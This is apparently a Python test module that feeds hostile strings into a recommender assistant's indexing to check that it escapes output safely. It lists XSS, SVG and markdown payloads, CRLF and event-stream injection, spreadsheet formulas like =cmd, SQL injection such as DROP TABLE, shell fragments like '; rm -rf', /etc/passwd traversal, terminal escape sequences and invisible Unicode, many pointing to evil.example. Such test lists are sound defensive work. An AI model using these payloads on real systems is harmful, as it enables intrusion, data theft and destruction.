"""Hostile texts for whatever shows text: our own, and the collections beside the repository where they are.

Ours are kinds rather than a collection: a text for each way that we know of in which data can become markup, script, a
request, a link, a terminal's command, another line of a protocol, a formula, or a ping.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

from assistant import cli
from assistant.text import clean
from tests.assistant.attacks import attack_strings

SHARED = Path(__file__).resolve().parents[3] / "shared" / "data" / "attacks"
EVIL = "https://evil.example"
SIZE = 40
"""Cards a reply."""
LANES = ["few", pytest.param("all", marks=[pytest.mark.slow, pytest.mark.timeout(900)])]
"""Our own texts; those and every line of the collections."""

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt\n>alert(1)</sCrIpT >", f"<script src={EVIL}/x.js></script>", "<script src=//evil.example>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", f"<img srcset='{EVIL}/a.png 1x'>", '"><svg onload=alert(1)>',
    "'-alert(1)-'", '" autofocus onfocus="alert(1)', "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", f"<svg><image href='{EVIL}/a.svg'/></svg>",
    f"<svg><use href='{EVIL}/a.svg#x'/></svg>", "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>", "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<object data='javascript:alert(1)'>",
    f"<embed src={EVIL}/a.swf>", f"<link rel=stylesheet href={EVIL}/a.css>", f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>", f"<meta http-equiv=refresh content='0;url={EVIL}/'>", f"<base href={EVIL}/>",
    f"<form action={EVIL}/><button>Send</button></form>", "<form id=app><input name=innerHTML></form>", "<a id=message name=t>x</a>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)>",
    "<body onpageshow=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<x tabindex=1 onfocus=alert(1) id=x>", "<b popover onbeforetoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", f"<a href={EVIL} ping={EVIL}/p>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
    "<b style='position:fixed;inset:0'>over all of it</b>", "<dialog open>x</dialog>",
]  # fmt: skip
"""Elements and attributes."""

HALVES = [
    "<script", "</script", "<img src=x onerror=alert(1)", "<svg onload=alert(1) ", "<", "<!", "<!--", "<!-- --!><img src=x onerror=alert(1)>", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", '">', "'>", "`>", "<a href=\"", "<!doctype html>",
    "</p></div></section></main><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&ltscript&gtalert(1)", "&amp;lt;b&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
]  # fmt: skip
"""Tags half open, ends of what might stand around a text, texts escaped already."""

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript://x%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "vbscript:msgbox(1)", "blob:https://evil.example/1", "file:///etc/passwd",
    f"{EVIL}/a?b=c&d=e#f", "//evil.example/a.js", "\\\\evil.example\\a", "http:/\\evil.example", "www.evil.example/a", "mailto:a@evil.example", "someone@evil.example", "ftp://evil.example", "/api/me/export", "/pictures/../static/app.js", "/v1/../metrics", "#<img src=x onerror=alert(1)>", "../../../../etc/passwd",
]  # fmt: skip

TEMPLATES = [
    "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{{{x}}}", "{% import os %}", "<%= alert(1) %>", "#{alert(1)}", "@{alert(1)}", "[[${7*7}]]", "{0.__class__}", "{user}", "{title}", "%(title)s %s %n", "$(id)", "`id`", "; rm -rf x", "__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "[object Object]", "'); alert(1); ('", "*/alert(1)/*", "//\nalert(1)",
]  # fmt: skip

PROTOCOLS = [
    '{"text": "x", "fact_ids": []}', '"}]}\n\ndata: {"x": 1}\n\n', "a\n\nevent: replied\ndata: {}\n\n", "a\r\rdata: x\r\r", "a\r\n\r\nevent: error\r\ndata: {}\r\n\r\n", "\u2028alert(1)\u2029alert(1)", "a\x85data: x", "data: [DONE]", "event: card", ": keep-alive", "id: 7\nretry: 1", "\x00", "a\x00b", "a\x1ab",
    "ana\r\nSet-Cookie: session=1", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", '"; filename="x.html', "=?utf-8?q?x?=", "ana%0d%0aX-A: 1",
    "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1,1)", f'=HYPERLINK("{EVIL}","x")', "\t=1+1", "' OR 1=1 --", "'; DROP TABLE item; --", '" NEAR/2 "', "title:* OR (", "a* b^ -c",
]  # fmt: skip
"""Lines of event streams, headers, formulas, queries."""

TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[6n", "\x1b[?1049h", f"\x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x1b\\", f"\x1b]8;;{EVIL}\x07link\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1bP+q544e\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1bc", "\x1b(0lqk", "\x1b#8", "\x1b", "\x1b[", "\x1b]", "\x1b]8;;", "\x9b31mred", "\x9d8;;https://evil.example\x9clink\x9d8;;\x9c", "\x90q\x9c", "\x84\x85\x8d", "over\rwritten", "back\x08\x08\x08\x08", "bell\x07", "\x0eshift\x0f", "\x7f\x7f", "\x0b\x0c", "\\x1b[31m", "\\033[31m", "\\e[31m", "^[[31m",
    "[bold red]x[/bold red]", f"[link={EVIL}]x[/link]", "[/]", "[@click=app.quit]x[/]", ":smile:", "\u241b[31m",
]  # fmt: skip

INVISIBLE = [
    "\u202egnp.exe\u202c", "\u202d\u202e\u2066\u2067x\u2069", "\u200fright\u200e", "\u061cx", "<scr\u200bipt>alert(1)</scr\u200dipt>", "zero\u200b\u200c\u200d\u2060width", "\ufeff<script>alert(1)</script>", "soft\xadhyphen", "\U000e0041\U000e0042tags", "\ufff9a\ufffab\ufffb", "\U0001d173\U0001d17a", "\ue000private\U000f0000", "\u115f\u3164\uffa0", "a\ufe0f\ufe0e", "\u2800\u2800", "\u180e\u034f",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bascript\u02ba", "\u2039script\u203a", "\uff9f", "one \uff9f\uff9e two", "\u0130\u0131\u212a\u017f", "<\u017fcript>alert(1)</\u017fcript>", "A\u0300\u0301\u0302" * 40, "Z" + "\u0351\u036b\u0343" * 60, "\ufdfd" * 20, "\u0e49" * 50, "\U0001f3f3\ufe0f\u200d\U0001f308" * 20, "\uffff\ufffe", "\ufffd", "\u05d0\u05d1 <b>x</b> 1 < 2", "\u0627\u0644 (<i>x</i>)", "\u540d\u524d<script>alert(1)</script>",
]  # fmt: skip

MARKDOWN = [
    f"![x]({EVIL}/a.png)", f"![x][1]\n\n[1]: {EVIL}/a.png", "[x](javascript:alert(1))", f"[x]({EVIL})", f"[x]: {EVIL}", f"<{EVIL}>", "<someone@evil.example>", "# head", "## head ##", "head\n===", "head\n---", "===", "---", "***", "___", "- item", "+ item", "* item", "1. item", "1) item", "- [ ] task", "> quote", "    code", "```\ncode\n```", "~~~", "``x``", "| a | b |\n|---|---|\n| 1 | 2 |", "*x*", "__x__", "~~x~~", "==x==", "^x^", "[^1]", "[^1]: x", "$x$", "$$x$$", "\\(x\\)", "\\[x\\]", "\\", "a\\", ":::note", "@[x]", "<details><summary>x", "  \nx", "&nbsp;&#10;", "!", "x!", "{.class}", "[[x]]", "%%x%%", "---\ntitle: x\n---",
]  # fmt: skip

SLACK = [
    "<!channel>", "<!here|here>", "<!everyone>", "<@U12345>", "<@W12345|ana>", "<#C123|general>", "<!subteam^S1|team>", f"<!date^1392734382^now^{EVIL}|x>", f"<{EVIL}|Alien>", "<mailto:a@evil.example|x>", "<tel:1>", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "@channel", "@here", "<<!channel>>", "<!channel", "!channel>", "<\u200b!channel>", "<\x00!channel>", "<\n!channel>", "*bold* _it_ ~out~ `code`", "```", "&gt; quote",
]  # fmt: skip

LONG = ["x" * 6000, "<" * 3000, "&" * 3000, "\U0001d4b3" * 2000, "\U0001f642" * 2000, "a b " * 1500, "/" * 3000, "\u200b" * 400 + "x", "<b>" * 1500, "\u4e00" * 4000]  # fmt: skip

OURS = [*MARKUP, *HALVES, *ADDRESSES, *TEMPLATES, *PROTOCOLS, *TERMINAL, *INVISIBLE, *MARKDOWN, *SLACK, *LONG]


def attacks(*, shared: bool) -> list[str]:
    """Each text once: ours, and with ``shared`` every line of the collections, of which there are none where they are not."""
    collected = attack_strings(SHARED) if shared and SHARED.is_dir() else []
    return list(dict.fromkeys([*OURS, *collected]))


def acting(text: str, *, line_ends: bool = True) -> list[str]:
    """What in a text could act on a terminal, hide, or turn what stands around it: the names of the characters."""
    allowed = "\n" if line_ends else ""
    return sorted(
        {repr(c) for c in text if c not in allowed and unicodedata.category(c) in ("Cc", "Cf", "Co", "Cs", "Zl", "Zp")}
    )


def batches(texts: Iterable[str], size: int) -> Iterator[list[str]]:
    """The texts, some at a time."""
    kept = list(texts)
    for start in range(0, len(kept), size):
        yield kept[start : start + size]


def word_of(batch: int) -> str:
    """A word that only the items of a batch have, to ask for them by."""
    return "quillon" + "".join(chr(ord("a") + int(digit)) for digit in f"{batch:03d}")


def items_of(texts: list[str], size: int) -> list[dict[str, object]]:
    """An item for each text, which stands in all that can hold one; the batch of an item is a tag and a category.

    A catalogue refuses titles that show nothing, or are longer than 500 characters: the first get a word before them, the
    others are cut.
    """
    texts = [(text if clean(text) else f"Zed {text}")[:500] for text in texts]
    return [
        {
            "item_id": f"{number}:{text[:200]}" if number % 2 else f"i{number}",
            "title": text,
            "description": f"{text} {word_of(number // size)}",
            "year": 1950 + number % 70,
            "categories": [word_of(number // size), text],
            "tags": [word_of(number // size), text],
            "moods": [text],
            "languages": [text],
            "countries": [text],
            "creators": [{"name": text, "role": "director"}, {"name": text, "role": "cast"}],
            "image_url": text if number % 3 else f"{EVIL}/{number}.png",
            "url": text,
        }
        for number, text in enumerate(texts)
    ]  # fmt: skip


def index_attacks(texts: list[str], made: Path) -> Path:
    """The folder in which the command has indexed items of these texts."""
    items = made / "items.jsonl"
    items.write_text("".join(json.dumps(item) + "\n" for item in items_of(texts, SIZE)), encoding="utf-8")
    assert cli.run(["index", str(items), "--data", str(made / "data"), "--embedder", "hashing"]) == 0
    return made / "data"
